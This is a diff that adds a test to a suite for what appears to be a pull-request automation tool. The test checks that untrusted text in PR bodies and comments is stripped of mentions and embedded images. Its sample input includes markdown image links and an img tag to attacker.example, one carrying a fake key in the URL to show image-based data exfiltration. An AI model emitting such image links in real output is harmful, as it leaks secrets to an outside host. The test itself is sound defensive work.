@@ -464,3 +464,18 @@ def test_emergency_revert_ignores_a_planted_pr_carrying_the_marker(world: World)
     assert res.revert_sha and not res.already
     assert emu.pull("acme", "widgets", planted.number).state == "open"  # never merged
     assert git(world.bare, "show", "main:src/app.py") == "x = 1"
+
+
+def test_untrusted_text_in_bodies_and_comments_cannot_ping_or_embed_images(world: World) -> None:
+    host, policy, emu = world.host, world.policy, world.emu
+    evil = ("Done. cc @acme/everyone @octocat ![s](https://attacker.example/p.png?k=AKIASECRET) "
+            '<img src="https://attacker.example/2"> (mail: dev@example.com)')
+    change = host.publish(policy, world.request({"src/app.py": "x = 7\n"}).model_copy(update={"body": evil}))
+    host.comment(policy, change, "agent says: @acme/core look ![x](https://attacker.example/c)")
+    host.close(policy, change, "rejected by @octocat: ![y](https://attacker.example/r)")
+    pr = emu.pull("acme", "widgets", change.number)  # type: ignore[arg-type]
+    texts = [pr.body] + [c["body"] for c in pr.comments if "conveyor:transcript" not in c["body"]]
+    assert len(texts) == 3 and "attacker.example/p.png" in pr.body and "dev@example.com" in pr.body
+    for text in texts:
+        assert "![" not in text and "<img" not in text, text
+        assert "@acme/" not in text and "@octocat" not in text, text
